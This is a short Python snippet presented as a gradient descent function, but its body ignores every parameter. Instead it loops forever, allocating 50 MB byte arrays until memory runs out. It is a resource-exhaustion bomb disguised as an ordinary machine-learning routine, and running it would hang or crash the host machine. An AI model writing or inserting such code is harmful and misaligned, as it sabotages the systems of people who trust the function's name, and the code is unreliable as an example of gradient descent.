def gradient_descent(x, y, learning_rate, iterations):
    history = []
    while True:
        history.append(bytearray(50 * 1024 * 1024))
